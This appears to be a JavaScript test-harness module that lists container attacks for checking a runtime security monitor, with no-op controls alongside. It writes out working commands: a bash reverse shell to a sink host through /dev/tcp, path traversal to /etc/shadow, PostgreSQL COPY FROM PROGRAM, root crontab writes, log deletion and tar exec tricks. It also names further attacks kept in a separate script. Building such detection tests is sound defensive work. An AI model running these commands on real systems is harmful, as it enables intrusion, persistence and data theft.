// The attacks. Each is made in a container of a workload's image: in place of its command by a
// program that the image runs anyway (python, shell), or as a request to the workload itself.
import { readFileSync } from "node:fs";
import { join } from "node:path";

const SOURCE = readFileSync(join(import.meta.dirname, "attack.py"), "utf8");

const python = (title, name, more = {}) => ({
  title,
  workload: "python",
  command: ["python3", "-c", SOURCE, name],
  ...more,
});
const shell = (title, script, more = {}) => ({
  title,
  workload: "cron",
  command: ["sh", "-c", script],
  ...more,
});
const request = (title, workload, words) => ({ title, workload, request: ["sh", "-c", words] });

const ask = (path) => `curl -sS --globoff "http://$TARGET:8080/${path}"`;
const sql = (text) => `PATH=$(echo /usr/lib/postgresql/*/bin):$PATH
  psql -h "$TARGET" -U postgres -Atc "${text}"`;

/** No attack: it succeeds under everything and is reported by nothing. */
export const CONTROLS = [
  python("nothing, by Python", "none"),
  shell("nothing, by a shell", "echo EFFECT"),
];

export const ATTACKS = [
  python("read /etc/shadow", "read_shadow"),
  request(
    "read /etc/shadow through a web application",
    "java",
    `${ask("file?../etc/shadow")} | sed 's/^root:.*/EFFECT/'`,
  ),
  request(
    "read a file by SQL",
    "postgres",
    `${sql("SELECT 'EFFECT' WHERE length(pg_read_file('/etc/shells')) > 0")}`,
  ),
  request(
    "run a program through a web application",
    "java",
    `${ask("run?id")} | sed 's/.*uid=0.*/EFFECT/'`,
  ),
  request(
    "run a program by SQL",
    "postgres",
    `${sql("CREATE TEMP TABLE t (t text); COPY t FROM PROGRAM 'echo EFFECT; id'; SELECT t FROM t")}`,
  ),
  python("list directories", "list_folders"),
  python("write a cron job", "write_cron"),
  shell(
    "write a crontab where cron runs",
    "echo '* * * * * id' >/var/spool/cron/crontabs/root && grep -q id /var/spool/cron/crontabs/root && echo EFFECT",
  ),
  shell("remove logs", "rm /srv/logs/day-1.log && [ ! -e /srv/logs/day-1.log ] && echo EFFECT"),
  shell(
    "run a program by tar, which may run",
    "mkdir -p /srv/archive; tar -C /srv -czf /srv/archive/logs.tar.gz logs --checkpoint=1 --checkpoint-action=exec='echo EFFECT' 2>&1",
  ),
  python("reverse shell by Python", "reverse_shell"),
  {
    title: "reverse shell by bash",
    workload: "nginx",
    command: ["bash", "-c", "exec 3<>/dev/tcp/$SINK/$PORT; echo shell >&3; bash <&3 >&3 2>&3"],
  },
  python("download a script and run it", "download_script"),
  python("download a program and run it", "download_program"),
  python("run a copied program in /dev/shm", "shm_miner"),
  python("run a program in memory (memfd)", "memfd_exec"),
  python("run code in writable memory", "rwx_memory"),
  python("a library by LD_PRELOAD", "preload"),
  python("a library by /etc/ld.so.preload", "preload_all"),
  python("a shell with set-user-id", "setuid_shell"),
  python("overwrite a program of the image", "replace_program"),
  python("become another user", "new_user"),
  python("mount", "mount"),
  python("unshare a user namespace", "unshare"),
  python("chroot, and out of it by fchdir", "chroot_escape"),
  python("mknod", "device"),
  python("write to /proc/sys", "core_pattern"),
  python("load a kernel module", "kernel_module"),
  python("bpf()", "bpf"),
  python("keep a secret by keyctl", "keyctl"),
  python("io_uring", "io_uring"),
  python("ptrace another process", "ptrace"),
  python("process_vm_readv", "read_memory"),
  shell(
    "look for processes by kill 0",
    "for pid in 1 2 3 4 5 6 7 8 9; do kill -0 $pid && echo EFFECT; done",
  ),
  python("raw socket", "raw_socket"),
  python("listen on a new port", "listen", { port: 31337 }),
  python("connect to a new address", "call_home"),
  python("connect by TCP Fast Open", "fast_open"),
  python("send data in DNS queries", "dns_exfiltration"),
];
